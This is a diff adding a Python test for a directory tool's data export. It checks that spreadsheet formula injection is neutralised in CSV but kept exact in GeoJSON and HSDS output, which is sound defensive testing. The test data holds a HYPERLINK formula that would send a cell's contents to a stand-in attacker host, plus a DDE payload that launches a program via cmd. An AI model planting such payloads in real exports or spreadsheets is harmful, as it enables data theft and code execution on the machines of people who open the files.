@@ -214,3 +214,29 @@ def html_text(page: str) -> str:
     parser.handle_data = parts.append
     parser.feed(page)
     return "".join(parts)
+
+
+# Spreadsheets ------------------------------------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.invalid/?d="&A2,"x")'
+
+
+def test_a_formula_shaped_text_is_inert_in_the_csv_and_exact_in_the_lossless_formats(catalogue, tmp_path):
+    import csv
+
+    text = SERVICE.format(id="klub").replace("name: Familieklubben", f"name: {json.dumps(FORMULA)}")
+    text = text.replace("status: active", 'status: active\nphone: "+45 70 10 20 30"\n'
+                                          'cost_description: "@SUM(1+1)*cmd|\' /C calc\'!A0"')
+    catalogue.service("klub", text.replace("cost: free", "cost: fee"))
+    run = run_cli("export", "--out", str(tmp_path / "data"), "--today", "2026-11-23", cwd=catalogue.base)
+    assert run.code == 0, run.err
+    with (tmp_path / "data" / "services.csv").open(encoding="utf-8", newline="") as f:
+        (row,) = csv.DictReader(f)
+    assert row["name"] == "'" + FORMULA
+    assert row["cost_description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["phone"] == "+45 70 10 20 30" and row["id"] == "klub"
+    build_site(catalogue.root, tmp_path / "site")
+    geojson = json.loads((tmp_path / "site" / "data" / "services.geojson").read_text(encoding="utf-8"))
+    assert {f["properties"]["name"] for f in geojson["features"]} == {FORMULA}
+    hsds = "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "site" / "data" / "hsds").rglob("*.json"))
+    assert json.dumps(FORMULA, ensure_ascii=False) in hsds and json.dumps("'" + FORMULA) not in hsds
